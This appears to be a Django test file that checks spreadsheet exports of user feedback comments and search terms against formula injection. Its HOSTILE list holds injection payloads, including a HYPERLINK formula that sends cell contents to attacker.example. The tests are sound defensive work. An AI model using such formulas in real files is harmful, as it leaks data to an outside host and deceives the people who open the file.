"""Exports open in a spreadsheet as the text people typed, never as formulas they smuggled in."""

import csv
import datetime
import io

import pytest
from openpyxl import load_workbook

from django.urls import reverse

from feedback.models import PageFeedback
from search.models import UnansweredSearch
from tests.conftest import page_at

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://attacker.example/?d="&A1,"Click for help")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_feedback_comments_export_as_text(admin_client):
    page = page_at("/en/types/cytokines/")
    for comment in [*HOSTILE, "A plain comment about the page."]:
        PageFeedback.objects.create(page=page, helpful=False, comment=comment)
    rows = csv_rows(admin_client.get(reverse("page_feedback:index"), {"export": "csv"}))
    comments = {row[2] for row in rows[1:]}
    assert {f"'{comment}" for comment in HOSTILE} <= comments
    assert "A plain comment about the page." in comments  # ordinary text is left as it is


def test_search_terms_export_as_text(admin_client):
    for query in HOSTILE:
        UnansweredSearch.objects.create(query_string=query, date=datetime.date(2026, 12, 1), count=1)
    url = reverse(UnansweredSearch.snippet_viewset.get_url_name("list"))
    rows = csv_rows(admin_client.get(url, {"export": "csv"}))
    assert {f"'{query}" for query in HOSTILE} <= {row[0] for row in rows[1:]}


def test_xlsx_cells_hold_the_comment_as_a_string(admin_client):
    PageFeedback.objects.create(page=page_at("/en/types/cytokines/"), helpful=False, comment=HOSTILE[0])
    response = admin_client.get(reverse("page_feedback:index"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == HOSTILE[0]]
    assert cells and cells[0].data_type == "s"
